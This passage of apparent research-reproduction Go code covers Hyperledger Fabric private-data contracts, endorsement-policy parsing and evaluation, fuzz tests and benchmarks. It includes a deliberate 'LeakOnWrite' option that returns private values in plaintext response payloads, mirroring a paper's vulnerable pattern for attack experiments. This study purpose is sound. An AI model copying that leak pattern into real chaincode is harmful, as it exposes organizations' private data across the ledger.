	resp, set := invoke(t, cc, "org1", "addPrivate", []string{"k", "2"}, map[string]string{"k": "12"})
	if resp.Status != ledger.StatusOK || string(resp.Payload) != "14" {
		t.Fatalf("resp = %+v", resp)
	}
	if rwset.Classify(set) != rwset.TxReadWrite {
		t.Fatalf("addPrivate produced %v", rwset.Classify(set))
	}
	// Constraint applies to the sum.
	resp, _ = invoke(t, cc, "org1", "addPrivate", []string{"k", "10"}, map[string]string{"k": "12"})
	if resp.Status == ledger.StatusOK {
		t.Fatal("sum above limit endorsed")
	}
	// Missing base counts as zero.
	resp, _ = invoke(t, cc, "org1", "addPrivate", []string{"new", "3"}, nil)
	if resp.Status != ledger.StatusOK || string(resp.Payload) != "3" {
		t.Fatalf("fresh add = %+v", resp)
	}
}

func TestDelPrivate(t *testing.T) {
	cc := NewPDC(PDCOptions{Collection: "pdc1", Constraint: MinValue(10)})
	resp, set := invoke(t, cc, "org2", "delPrivate", []string{"k", "12"}, map[string]string{"k": "12"})
	if resp.Status != ledger.StatusOK {
		t.Fatalf("del failed: %s", resp.Message)
	}
	// Delete-only per Table I: null read set, is_delete write.
	if rwset.Classify(set) != rwset.TxDeleteOnly {
		t.Fatalf("delPrivate produced %v", rwset.Classify(set))
	}
	resp, _ = invoke(t, cc, "org2", "delPrivate", []string{"k", "5"}, nil)
	if resp.Status == ledger.StatusOK {
		t.Fatal("constrained delete endorsed")
	}
}

func TestSetPrivateTransient(t *testing.T) {
	cc := NewPDC(PDCOptions{Collection: "pdc1"})
	resp, set := invoke(t, cc, "org1", "setPrivateTransient", []string{"k"}, nil)
	if resp.Status != ledger.StatusOK {
		t.Fatalf("transient write failed: %s", resp.Message)
	}
	if rwset.Classify(set) != rwset.TxWriteOnly {
		t.Fatalf("produced %v", rwset.Classify(set))
	}
	if len(resp.Payload) != 0 {
		t.Fatal("transient write leaked a payload")
	}
}

func TestArgumentValidation(t *testing.T) {
	cc := NewPDC(PDCOptions{Collection: "pdc1"})
	for _, tc := range [][2]string{
		{"setPrivate", "1"}, {"readPrivate", "2"}, {"addPrivate", "1"},
		{"delPrivate", "1"}, {"setPrivateTransient", "2"}, {"readPrivateHash", "2"},
	} {
		fn := tc[0]
		var args []string
		if tc[1] == "1" {
			args = []string{"only-one-but-needs-two"}
			if fn == "readPrivate" || fn == "readPrivateHash" || fn == "setPrivateTransient" {
				args = nil
			}
		} else {
			args = []string{"a", "b", "c"}
		}
		resp, _ := invoke(t, cc, "org1", fn, args, nil)
		if resp.Status == ledger.StatusOK {
			t.Errorf("%s with wrong arity succeeded", fn)
		}
	}
	// Non-integer values rejected.
	resp, _ := invoke(t, cc, "org1", "setPrivate", []string{"k", "NaN"}, nil)
	if resp.Status == ledger.StatusOK {
		t.Error("non-integer value accepted")
	}
}

func TestPublicAsset(t *testing.T) {
	cc := NewPublicAsset()
	resp, set := invoke(t, cc, "org1", "set", []string{"k", "v"}, nil)
	if resp.Status != ledger.StatusOK {
		t.Fatalf("set failed: %s", resp.Message)
	}
	if rwset.Classify(set) != rwset.TxWriteOnly {
		t.Fatalf("set produced %v", rwset.Classify(set))
	}
	resp, _ = invoke(t, cc, "org1", "get", []string{"absent"}, nil)
	if resp.Status == ledger.StatusOK {
		t.Fatal("get of missing key succeeded")
	}
	resp, set = invoke(t, cc, "org1", "del", []string{"k"}, nil)
	if resp.Status != ledger.StatusOK || rwset.Classify(set) != rwset.TxDeleteOnly {
		t.Fatal("del wrong")
	}
	resp, set = invoke(t, cc, "org1", "add", []string{"k", "5"}, nil)
	if resp.Status != ledger.StatusOK || string(resp.Payload) != "5" {
		t.Fatalf("add = %+v", resp)
	}
	if rwset.Classify(set) != rwset.TxReadWrite {
		t.Fatal("add not read-write")
	}
	resp, _ = invoke(t, cc, "org1", "add", []string{"k", "x"}, nil)
	if resp.Status == ledger.StatusOK {
		t.Fatal("non-integer delta accepted")
	}
}
