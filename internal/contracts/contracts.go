// Package contracts provides the chaincode implementations used by the
// examples, tests and attack experiments: a public-data asset contract
// and a PDC contract with per-organization business constraints.
//
// The PDC contract is *customizable* in exactly the sense of the paper
// (§IV-A1): every organization installs its own variant — same functions,
// same read/write behaviour, but organization-specific validation logic
// before endorsing. The paper's write-injection experiment configures
// org1 with "value < 15", org2 with "value > 10" and org3 with no
// constraint (§V-A2).
package contracts

import (
	"fmt"
	"strconv"

	"repro/internal/chaincode"
	"repro/internal/ledger"
)

// Op is the operation kind a constraint inspects.
type Op string

// Operations subject to constraints.
const (
	OpWrite  Op = "write"
	OpDelete Op = "delete"
)

// Constraint is an organization's business rule over private writes and
// deletes. The value checked is the value proposed by the client — for
// writes, the value being written; for deletes, the value the client
// claims the key currently has (a state-free check, keeping the
// delete-only transaction's read set null as in Table I).
type Constraint func(op Op, key string, value int) error

// MaxValue returns a constraint requiring value < limit, the paper's
// org1 rule ("requires k1.value < 15").
func MaxValue(limit int) Constraint {
	return func(op Op, key string, value int) error {
		if value >= limit {
			return fmt.Errorf("org constraint: %s %q: value %d must be < %d", op, key, value, limit)
		}
		return nil
	}
}

// MinValue returns a constraint requiring value > limit, the paper's
// org2 rule ("requires k1.value > 10").
func MinValue(limit int) Constraint {
	return func(op Op, key string, value int) error {
		if value <= limit {
			return fmt.Errorf("org constraint: %s %q: value %d must be > %d", op, key, value, limit)
		}
		return nil
	}
}

// PDCOptions configures one peer's variant of the PDC contract.
type PDCOptions struct {
	// Collection is the private data collection the contract manages.
	Collection string
	// Constraint is the organization's business rule; nil means no
	// constraint (the paper's org3).
	Constraint Constraint
	// LeakOnWrite makes setPrivate return the written value through the
	// response payload — the sloppy pattern of the paper's Listing 2
	// that leaks private data through PDC write transactions (§IV-B2).
	LeakOnWrite bool
}

// NewPDC builds the PDC contract variant for one peer.
//
// Functions:
//
//	setPrivate(key, value)   — write-only private write (int value)
//	readPrivate(key)         — read-only; returns the private value in
//	                           the payload (the paper's Listing 1 /
//	                           audit pattern, Use Case 3)
//	readPrivateHash(key)     — read-only over the hashed store
//	addPrivate(key, delta)   — read-write: value += delta
//	delPrivate(key, claimed) — delete-only; constraint checks the
//	                           claimed current value
//	setPrivateTransient(key) — write-only with the value taken from the
//	                           transient map (the privacy-conscious
//	                           variant; nothing sensitive in args)
func NewPDC(opts PDCOptions) chaincode.Router {
	coll := opts.Collection
	check := opts.Constraint
	if check == nil {
		check = func(Op, string, int) error { return nil }
	}

	return chaincode.Router{
		"setPrivate": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 2 {
				return chaincode.ErrorResponse("setPrivate: want (key, value)")
			}
			value, err := strconv.Atoi(args[1])
			if err != nil {
				return chaincode.ErrorResponse("setPrivate: value must be an integer: " + err.Error())
			}
			if err := check(OpWrite, args[0], value); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if err := stub.PutPrivateData(coll, args[0], []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if opts.LeakOnWrite {
				// Listing 2: "return args[1], nil" — leaks the
				// private value into every peer's blockchain.
				return chaincode.SuccessResponse([]byte(args[1]))
			}
			return chaincode.SuccessResponse(nil)
		},

		"readPrivate": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 1 {
				return chaincode.ErrorResponse("readPrivate: want (key)")
			}
			value, err := stub.GetPrivateData(coll, args[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if value == nil {
				return chaincode.ErrorResponse(fmt.Sprintf("readPrivate: %q does not exist", args[0]))
			}
			// Listing 1: the private value is returned through the
			// plaintext "payload" field of the proposal response.
			return chaincode.SuccessResponse(value)
		},

		"readPrivateHash": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 1 {
				return chaincode.ErrorResponse("readPrivateHash: want (key)")
			}
			digest, err := stub.GetPrivateDataHash(coll, args[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(digest)
		},

		"addPrivate": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 2 {
				return chaincode.ErrorResponse("addPrivate: want (key, delta)")
			}
			delta, err := strconv.Atoi(args[1])
			if err != nil {
				return chaincode.ErrorResponse("addPrivate: delta must be an integer: " + err.Error())
			}
			current, err := stub.GetPrivateData(coll, args[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			base := 0
			if current != nil {
				base, err = strconv.Atoi(string(current))
				if err != nil {
					return chaincode.ErrorResponse("addPrivate: stored value not an integer: " + err.Error())
				}
			}
			sum := base + delta
			if err := check(OpWrite, args[0], sum); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			out := strconv.Itoa(sum)
			if err := stub.PutPrivateData(coll, args[0], []byte(out)); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse([]byte(out))
		},

		"delPrivate": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 2 {
				return chaincode.ErrorResponse("delPrivate: want (key, claimedValue)")
			}
			claimed, err := strconv.Atoi(args[1])
			if err != nil {
				return chaincode.ErrorResponse("delPrivate: claimed value must be an integer: " + err.Error())
			}
			if err := check(OpDelete, args[0], claimed); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if err := stub.DelPrivateData(coll, args[0]); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},

		"setPrivateTransient": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 1 {
				return chaincode.ErrorResponse("setPrivateTransient: want (key)")
			}
			value := stub.Transient("value")
			if value == nil {
				return chaincode.ErrorResponse("setPrivateTransient: transient field \"value\" missing")
			}
			n, err := strconv.Atoi(string(value))
			if err != nil {
				return chaincode.ErrorResponse("setPrivateTransient: value must be an integer: " + err.Error())
			}
			if err := check(OpWrite, args[0], n); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if err := stub.PutPrivateData(coll, args[0], value); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
	}
}

// NewPublicAsset builds the public-data asset contract used by the
// quickstart example and the public-transaction benchmarks.
//
// Functions: set(key, value), get(key), del(key), add(key, delta).
func NewPublicAsset() chaincode.Router {
	return chaincode.Router{
		"set": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 2 {
				return chaincode.ErrorResponse("set: want (key, value)")
			}
			if err := stub.PutState(args[0], []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
		"get": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 1 {
				return chaincode.ErrorResponse("get: want (key)")
			}
			value, err := stub.GetState(args[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if value == nil {
				return chaincode.ErrorResponse(fmt.Sprintf("get: %q does not exist", args[0]))
			}
			return chaincode.SuccessResponse(value)
		},
		"del": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 1 {
				return chaincode.ErrorResponse("del: want (key)")
			}
			if err := stub.DelState(args[0]); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
		"add": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 2 {
				return chaincode.ErrorResponse("add: want (key, delta)")
			}
			delta, err := strconv.Atoi(args[1])
			if err != nil {
				return chaincode.ErrorResponse("add: delta must be an integer: " + err.Error())
			}
			current, err := stub.GetState(args[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			base := 0
			if current != nil {
				base, err = strconv.Atoi(string(current))
				if err != nil {
					return chaincode.ErrorResponse("add: stored value not an integer: " + err.Error())
				}
			}
			out := strconv.Itoa(base + delta)
			if err := stub.PutState(args[0], []byte(out)); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse([]byte(out))
		},
	}
}
