package policy

import (
	"fmt"
	"testing"

	"repro/internal/identity"
)

// benchSigners builds n signer certs org1..orgN.
func benchSigners(n int) []*identity.Certificate {
	out := make([]*identity.Certificate, n)
	for i := range out {
		out[i] = &identity.Certificate{
			Org:  fmt.Sprintf("org%d", i+1),
			Role: identity.RolePeer,
		}
	}
	return out
}

// BenchmarkEvaluateMajority measures implicitMeta MAJORITY evaluation as
// the consortium grows — the policy 116/120 of the paper's configtx
// files use.
func BenchmarkEvaluateMajority(b *testing.B) {
	for _, orgs := range []int{3, 5, 10, 50} {
		b.Run(fmt.Sprintf("orgs=%d", orgs), func(b *testing.B) {
			table := make(map[string]Policy, orgs)
			for i := 1; i <= orgs; i++ {
				org := fmt.Sprintf("org%d", i)
				table[org] = MustParse("OR(" + org + ".peer)")
			}
			meta, err := ResolveImplicitMeta(MetaMajority, "Endorsement", table)
			if err != nil {
				b.Fatal(err)
			}
			signers := benchSigners(orgs/2 + 1)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if !meta.Evaluate(signers) {
					b.Fatal("majority not satisfied")
				}
			}
		})
	}
}

// BenchmarkEvaluateOutOf measures the paper's NOutOf policy shape.
func BenchmarkEvaluateOutOf(b *testing.B) {
	pol := MustParse("OutOf(2, org1.peer, org2.peer, org3.peer, org4.peer, org5.peer)")
	signers := benchSigners(2)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if !pol.Evaluate(signers) {
			b.Fatal("not satisfied")
		}
	}
}

// BenchmarkParse measures policy-expression parsing.
func BenchmarkParse(b *testing.B) {
	src := "AND(org1.peer, OR(org2.peer, OutOf(2, org3.peer, org4.peer, org5.member)))"
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Parse(src); err != nil {
			b.Fatal(err)
		}
	}
}
