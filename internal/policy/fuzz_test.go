package policy

import (
	"testing"

	"repro/internal/identity"
)

// FuzzParse checks the policy parser never panics and that anything it
// accepts round-trips through String and evaluates without panicking.
func FuzzParse(f *testing.F) {
	seeds := []string{
		"AND(org1.peer, org2.peer)",
		"OR(org1.member)",
		"OutOf(2, org1.peer, org2.peer, org3.peer)",
		"2OutOf(org1.peer, org2.peer)",
		"MAJORITY Endorsement",
		"AND(org1.peer, OR(org2.peer, OutOf(1, org3.client)))",
		"AND(", "org1", "org1.", ")(", "OutOf(999, org1.peer)",
		"", "   ", "AND(org1.peer,)", "\x00\x01", "AND(org1.peer))",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	signers := []*identity.Certificate{
		{Org: "org1", Role: identity.RolePeer},
		{Org: "org2", Role: identity.RoleClient},
	}
	f.Fuzz(func(t *testing.T, src string) {
		pol, err := Parse(src)
		if err != nil {
			return
		}
		// Accepted input: String must re-parse to the same rendering,
		// and evaluation must not panic.
		rendered := pol.String()
		again, err := Parse(rendered)
		if err != nil {
			t.Fatalf("accepted %q but rejected its rendering %q: %v", src, rendered, err)
		}
		if again.String() != rendered {
			t.Fatalf("rendering not stable: %q -> %q", rendered, again.String())
		}
		_ = pol.Evaluate(signers)
		_ = pol.Evaluate(nil)
		_ = pol.Principals()
	})
}

// FuzzParseImplicitMetaSpec checks the implicitMeta spec parser.
func FuzzParseImplicitMetaSpec(f *testing.F) {
	for _, s := range []string{
		"MAJORITY Endorsement", "ANY Readers", "ALL Writers",
		`ImplicitMeta:"MAJORITY Endorsement"`, "bogus", "", "MAJORITY",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		rule, name, err := ParseImplicitMetaSpec(src)
		if err != nil {
			return
		}
		switch rule {
		case MetaAny, MetaAll, MetaMajority:
		default:
			t.Fatalf("accepted unknown rule %q from %q", rule, src)
		}
		if name == "" {
			t.Fatalf("accepted empty sub-policy name from %q", src)
		}
	})
}
