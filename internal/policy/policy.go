// Package policy implements Fabric's endorsement-policy language: signature
// policies built from AND, OR and OutOf over organization principals, and
// implicitMeta policies (ANY, ALL, MAJORITY) evaluated over the per-org
// signature policies defined in the channel configuration.
//
// The paper's attacks hinge on exactly how these policies route: a
// chaincode-level implicitMeta policy such as "MAJORITY Endorsement" is
// satisfied by endorsements from *any* majority of organizations — including
// organizations that are not members of a private data collection. This
// package provides the evaluation machinery used by the validator, including
// the Majority formula of the paper's Eq. (1).
package policy

import (
	"errors"
	"fmt"
	"sort"
	"strings"

	"repro/internal/identity"
)

// Principal identifies a class of identities a policy can require: a role
// within an organization, e.g. {Org: "org1", Role: "peer"}.
type Principal struct {
	Org  string
	Role identity.Role
}

// String renders the principal in the policy language's "org.role" form.
func (p Principal) String() string { return p.Org + "." + string(p.Role) }

// Match reports whether a certificate satisfies the principal. RoleMember
// matches any role within the organization.
func (p Principal) Match(cert *identity.Certificate) bool {
	if cert.Org != p.Org {
		return false
	}
	if p.Role == identity.RoleMember {
		return true
	}
	return cert.Role == p.Role
}

// Policy is a boolean expression over signer sets. Evaluate returns true
// when the set of signing certificates satisfies the expression.
type Policy interface {
	// Evaluate reports whether signers satisfy the policy. Each signer
	// certificate may be used to satisfy any number of principals, as
	// in Fabric's signature policy evaluation a single endorsement
	// satisfies every principal it matches.
	Evaluate(signers []*identity.Certificate) bool
	// Principals returns every principal mentioned by the policy, in
	// first-mention order without duplicates.
	Principals() []Principal
	// String renders the policy in its source syntax.
	String() string
}

// signaturePolicy is an n-of-m threshold gate over sub-policies. AND is
// n == len(subs); OR is n == 1.
type signaturePolicy struct {
	n    int
	subs []Policy
	// op remembers the source-level operator for String rendering.
	op string
}

// principalPolicy is a leaf requiring one signature matching a principal.
type principalPolicy struct {
	p Principal
}

func (l *principalPolicy) Evaluate(signers []*identity.Certificate) bool {
	for _, s := range signers {
		if s != nil && l.p.Match(s) {
			return true
		}
	}
	return false
}

func (l *principalPolicy) Principals() []Principal { return []Principal{l.p} }
func (l *principalPolicy) String() string          { return l.p.String() }

func (g *signaturePolicy) Evaluate(signers []*identity.Certificate) bool {
	satisfied := 0
	for _, sub := range g.subs {
		if sub.Evaluate(signers) {
			satisfied++
			if satisfied >= g.n {
				return true
			}
		}
	}
	return satisfied >= g.n
}

func (g *signaturePolicy) Principals() []Principal {
	seen := make(map[Principal]bool)
	var out []Principal
	for _, sub := range g.subs {
		for _, p := range sub.Principals() {
			if !seen[p] {
				seen[p] = true
				out = append(out, p)
			}
		}
	}
	return out
}

func (g *signaturePolicy) String() string {
	parts := make([]string, len(g.subs))
	for i, s := range g.subs {
		parts[i] = s.String()
	}
	switch g.op {
	case "AND", "OR":
		return fmt.Sprintf("%s(%s)", g.op, strings.Join(parts, ", "))
	default:
		return fmt.Sprintf("OutOf(%d, %s)", g.n, strings.Join(parts, ", "))
	}
}

// NewSignature builds a leaf policy requiring a signature from the given
// principal.
func NewSignature(org string, role identity.Role) Policy {
	return &principalPolicy{p: Principal{Org: org, Role: role}}
}

// And builds a policy satisfied only when every sub-policy is satisfied.
func And(subs ...Policy) Policy {
	return &signaturePolicy{n: len(subs), subs: subs, op: "AND"}
}

// Or builds a policy satisfied when at least one sub-policy is satisfied.
func Or(subs ...Policy) Policy {
	return &signaturePolicy{n: 1, subs: subs, op: "OR"}
}

// OutOf builds a policy satisfied when at least n sub-policies are
// satisfied; the paper's "2OutOf(org1.peer, ..., org5.peer)" example.
func OutOf(n int, subs ...Policy) Policy {
	return &signaturePolicy{n: n, subs: subs, op: "OutOf"}
}

// ---------------------------------------------------------------------------
// ImplicitMeta policies
// ---------------------------------------------------------------------------

// MetaRule is the quantifier of an implicitMeta policy.
type MetaRule string

// The three implicitMeta quantifiers defined by Fabric.
const (
	MetaAny      MetaRule = "ANY"
	MetaAll      MetaRule = "ALL"
	MetaMajority MetaRule = "MAJORITY"
)

// ImplicitMeta is a policy expressed over the equally named sub-policies of
// the participating organizations, e.g. "MAJORITY Endorsement": the
// "Endorsement" signature policies of a majority of orgs must be satisfied.
//
// Resolution against the concrete per-org policies happens at evaluation
// time through the OrgPolicies map, which the channel configuration
// provides.
type ImplicitMeta struct {
	Rule MetaRule
	// SubPolicyName is the per-org policy name referenced, typically
	// "Endorsement".
	SubPolicyName string
	// OrgPolicies maps each participating org to its named sub-policy.
	OrgPolicies map[string]Policy
}

var _ Policy = (*ImplicitMeta)(nil)

// Evaluate applies the quantifier over the per-org sub-policy outcomes.
// For MAJORITY it computes the paper's Eq. (1):
//
//	Majority(e_1..e_n) = floor(1/2 + (sum(e_i) - 1/2) / n)
//
// which is 1 exactly when sum(e_i) > n/2.
func (m *ImplicitMeta) Evaluate(signers []*identity.Certificate) bool {
	n := len(m.OrgPolicies)
	if n == 0 {
		return false
	}
	satisfied := 0
	for _, sub := range m.OrgPolicies {
		if sub.Evaluate(signers) {
			satisfied++
		}
	}
	switch m.Rule {
	case MetaAny:
		return satisfied >= 1
	case MetaAll:
		return satisfied == n
	case MetaMajority:
		return MajorityEq1(satisfied, n) == 1
	default:
		return false
	}
}

// MajorityEq1 evaluates the paper's Eq. (1) over integer inputs: given
// `satisfied` true sub-policy outcomes out of n, it returns 1 when the
// count is a strict majority and 0 otherwise. It mirrors
// floor(1/2 + (sum - 1/2)/n) computed exactly in integer arithmetic.
func MajorityEq1(satisfied, n int) int {
	if n <= 0 {
		return 0
	}
	// floor(1/2 + (s - 1/2)/n) = floor((n + 2s - 1) / (2n)); for
	// 0 <= s <= n this is 1 iff 2s > n.
	num := n + 2*satisfied - 1
	den := 2 * n
	if num < 0 {
		return 0
	}
	return num / den
}

// Principals returns the union of the per-org sub-policy principals, sorted
// by organization for determinism.
func (m *ImplicitMeta) Principals() []Principal {
	orgs := make([]string, 0, len(m.OrgPolicies))
	for org := range m.OrgPolicies {
		orgs = append(orgs, org)
	}
	sort.Strings(orgs)
	seen := make(map[Principal]bool)
	var out []Principal
	for _, org := range orgs {
		for _, p := range m.OrgPolicies[org].Principals() {
			if !seen[p] {
				seen[p] = true
				out = append(out, p)
			}
		}
	}
	return out
}

func (m *ImplicitMeta) String() string {
	return fmt.Sprintf("%s %s", m.Rule, m.SubPolicyName)
}

// ErrNoOrgPolicies is returned when an implicitMeta policy is resolved with
// no participating organizations.
var ErrNoOrgPolicies = errors.New("policy: implicitMeta with no org policies")

// ResolveImplicitMeta builds an ImplicitMeta policy from a rule, the
// sub-policy name and the per-org policy table. It copies the table so
// later channel reconfiguration does not mutate a policy in flight.
func ResolveImplicitMeta(rule MetaRule, name string, orgPolicies map[string]Policy) (*ImplicitMeta, error) {
	if len(orgPolicies) == 0 {
		return nil, ErrNoOrgPolicies
	}
	cp := make(map[string]Policy, len(orgPolicies))
	for org, p := range orgPolicies {
		cp[org] = p
	}
	return &ImplicitMeta{Rule: rule, SubPolicyName: name, OrgPolicies: cp}, nil
}
