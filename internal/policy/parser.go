package policy

import (
	"fmt"
	"strconv"
	"strings"
	"unicode"

	"repro/internal/identity"
)

// Parse parses a signature policy expression in Fabric's policy language:
//
//	expr     := gate | principal
//	gate     := ("AND" | "OR") "(" expr ("," expr)* ")"
//	          | "OutOf" "(" int "," expr ("," expr)* ")"
//	          | int "OutOf" "(" expr ("," expr)* ")"      // paper syntax
//	principal:= org "." role
//
// Examples accepted: "AND(Org1.peer, Org2.peer)", "OR(org1.member)",
// "OutOf(2, org1.peer, org2.peer, org3.peer)" and the paper's
// "2OutOf(org1.peer, org2.peer, org3.peer, org4.peer, org5.peer)".
func Parse(src string) (Policy, error) {
	p := &parser{src: src}
	p.skipSpace()
	pol, err := p.parseExpr()
	if err != nil {
		return nil, fmt.Errorf("policy: parse %q: %w", src, err)
	}
	p.skipSpace()
	if p.pos != len(p.src) {
		return nil, fmt.Errorf("policy: parse %q: trailing input at offset %d", src, p.pos)
	}
	return pol, nil
}

// MustParse is Parse for static policy literals in tests and examples.
func MustParse(src string) Policy {
	pol, err := Parse(src)
	if err != nil {
		panic(err)
	}
	return pol
}

// ParseImplicitMetaSpec parses an implicitMeta policy specification of the
// form "MAJORITY Endorsement", "ANY Endorsement" or "ALL Endorsement",
// optionally prefixed with "ImplicitMeta:" as in configtx.yaml rules.
// The returned rule and sub-policy name are resolved against per-org
// policies with ResolveImplicitMeta.
func ParseImplicitMetaSpec(src string) (MetaRule, string, error) {
	s := strings.TrimSpace(src)
	s = strings.TrimPrefix(s, "ImplicitMeta:")
	s = strings.Trim(s, `"`)
	fields := strings.Fields(s)
	if len(fields) != 2 {
		return "", "", fmt.Errorf("policy: implicitMeta spec %q: want \"RULE SubPolicy\"", src)
	}
	rule := MetaRule(strings.ToUpper(fields[0]))
	switch rule {
	case MetaAny, MetaAll, MetaMajority:
		return rule, fields[1], nil
	default:
		return "", "", fmt.Errorf("policy: implicitMeta spec %q: unknown rule %q", src, fields[0])
	}
}

// IsImplicitMetaSpec reports whether src looks like an implicitMeta
// specification rather than a signature policy expression.
func IsImplicitMetaSpec(src string) bool {
	_, _, err := ParseImplicitMetaSpec(src)
	return err == nil
}

type parser struct {
	src string
	pos int
}

func (p *parser) skipSpace() {
	for p.pos < len(p.src) && unicode.IsSpace(rune(p.src[p.pos])) {
		p.pos++
	}
}

// ident reads a run of letters, digits, '-' and '_'.
func (p *parser) ident() string {
	start := p.pos
	for p.pos < len(p.src) {
		c := rune(p.src[p.pos])
		if unicode.IsLetter(c) || unicode.IsDigit(c) || c == '-' || c == '_' {
			p.pos++
			continue
		}
		break
	}
	return p.src[start:p.pos]
}

func (p *parser) expect(c byte) error {
	p.skipSpace()
	if p.pos >= len(p.src) || p.src[p.pos] != c {
		return fmt.Errorf("expected %q at offset %d", string(c), p.pos)
	}
	p.pos++
	return nil
}

func (p *parser) peek() byte {
	p.skipSpace()
	if p.pos >= len(p.src) {
		return 0
	}
	return p.src[p.pos]
}

func (p *parser) parseExpr() (Policy, error) {
	p.skipSpace()
	word := p.ident()
	if word == "" {
		return nil, fmt.Errorf("expected expression at offset %d", p.pos)
	}

	// "<n>OutOf(...)": the paper's prefix-count syntax. The ident
	// grabbed digits and letters together, e.g. "2OutOf".
	if n, rest, ok := splitCountPrefix(word); ok && strings.EqualFold(rest, "OutOf") {
		subs, err := p.parseArgList()
		if err != nil {
			return nil, err
		}
		return p.outOf(n, subs)
	}

	switch {
	case strings.EqualFold(word, "AND"):
		subs, err := p.parseArgList()
		if err != nil {
			return nil, err
		}
		if len(subs) == 0 {
			return nil, fmt.Errorf("AND requires at least one operand")
		}
		return And(subs...), nil
	case strings.EqualFold(word, "OR"):
		subs, err := p.parseArgList()
		if err != nil {
			return nil, err
		}
		if len(subs) == 0 {
			return nil, fmt.Errorf("OR requires at least one operand")
		}
		return Or(subs...), nil
	case strings.EqualFold(word, "OutOf"):
		if err := p.expect('('); err != nil {
			return nil, err
		}
		p.skipSpace()
		numStr := p.ident()
		n, err := strconv.Atoi(numStr)
		if err != nil {
			return nil, fmt.Errorf("OutOf count %q: %w", numStr, err)
		}
		if err := p.expect(','); err != nil {
			return nil, err
		}
		subs, err := p.parseExprList()
		if err != nil {
			return nil, err
		}
		if err := p.expect(')'); err != nil {
			return nil, err
		}
		return p.outOf(n, subs)
	}

	// Otherwise it must be a principal: word is the org, followed by
	// ".role".
	if err := p.expect('.'); err != nil {
		return nil, fmt.Errorf("principal %q: %w", word, err)
	}
	roleStr := p.ident()
	role, err := parseRole(roleStr)
	if err != nil {
		return nil, err
	}
	return NewSignature(word, role), nil
}

func (p *parser) outOf(n int, subs []Policy) (Policy, error) {
	if len(subs) == 0 {
		return nil, fmt.Errorf("OutOf requires at least one operand")
	}
	if n < 1 || n > len(subs) {
		return nil, fmt.Errorf("OutOf count %d out of range [1,%d]", n, len(subs))
	}
	return OutOf(n, subs...), nil
}

// parseArgList parses "(" expr ("," expr)* ")".
func (p *parser) parseArgList() ([]Policy, error) {
	if err := p.expect('('); err != nil {
		return nil, err
	}
	subs, err := p.parseExprList()
	if err != nil {
		return nil, err
	}
	if err := p.expect(')'); err != nil {
		return nil, err
	}
	return subs, nil
}

func (p *parser) parseExprList() ([]Policy, error) {
	var subs []Policy
	for {
		sub, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		subs = append(subs, sub)
		if p.peek() != ',' {
			return subs, nil
		}
		p.pos++ // consume ','
	}
}

// splitCountPrefix splits "2OutOf" into (2, "OutOf", true).
func splitCountPrefix(word string) (int, string, bool) {
	i := 0
	for i < len(word) && word[i] >= '0' && word[i] <= '9' {
		i++
	}
	if i == 0 || i == len(word) {
		return 0, "", false
	}
	n, err := strconv.Atoi(word[:i])
	if err != nil {
		return 0, "", false
	}
	return n, word[i:], true
}

func parseRole(s string) (identity.Role, error) {
	switch strings.ToLower(s) {
	case "peer":
		return identity.RolePeer, nil
	case "orderer":
		return identity.RoleOrderer, nil
	case "client":
		return identity.RoleClient, nil
	case "admin":
		return identity.RoleAdmin, nil
	case "member":
		return identity.RoleMember, nil
	default:
		return "", fmt.Errorf("unknown role %q", s)
	}
}
