package policy

import (
	"testing"
	"testing/quick"

	"repro/internal/identity"
)

// certs builds signer certificates for "orgN.role" specs.
func certs(specs ...string) []*identity.Certificate {
	out := make([]*identity.Certificate, 0, len(specs))
	for _, s := range specs {
		var org, role string
		for i := range s {
			if s[i] == '.' {
				org, role = s[:i], s[i+1:]
				break
			}
		}
		out = append(out, &identity.Certificate{
			Subject: "peer0." + org,
			Org:     org,
			Role:    identity.Role(role),
		})
	}
	return out
}

func TestPrincipalMatch(t *testing.T) {
	tests := []struct {
		principal Principal
		cert      string
		want      bool
	}{
		{Principal{"org1", identity.RolePeer}, "org1.peer", true},
		{Principal{"org1", identity.RolePeer}, "org2.peer", false},
		{Principal{"org1", identity.RolePeer}, "org1.client", false},
		{Principal{"org1", identity.RoleMember}, "org1.client", true},
		{Principal{"org1", identity.RoleMember}, "org1.peer", true},
		{Principal{"org1", identity.RoleMember}, "org2.peer", false},
	}
	for _, tt := range tests {
